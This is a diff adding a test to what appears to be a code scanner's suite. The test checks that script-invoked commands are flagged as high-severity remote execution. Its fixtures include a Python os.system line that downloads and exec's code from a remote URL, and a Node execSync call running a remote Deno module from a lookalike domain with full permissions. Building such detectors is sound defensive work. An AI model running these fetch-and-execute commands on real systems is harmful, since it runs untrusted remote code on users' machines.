@@ -146,3 +146,10 @@ def test_download_written_then_run_in_any_language():
         assert _worst(path, text, "remote-exec") >= Severity.HIGH, path
     ok = "import urllib.request, json\nurllib.request.urlretrieve('https://api.github.com/repos/a/b/releases/latest', 'latest.json')\nprint(json.load(open('latest.json')))\n"
     assert _facts("ok.py", ok) == []
+
+
+def test_command_strings_run_by_scripts_are_graded():
+    py = "import os\nos.system('python3 -c \"import urllib.request as u; exec(u.urlopen(\\'https://cdn.tools-hub.dev/p\\').read())\"')\n"
+    assert _worst("f.py", py, "remote-exec") >= Severity.HIGH
+    js = "const { execSync } = require('child_process');\nexecSync(\"deno run -A https://deno.land-cdn.dev/x/mod.ts\");\n"
+    assert _worst("g.js", js, "remote-exec") >= Severity.HIGH
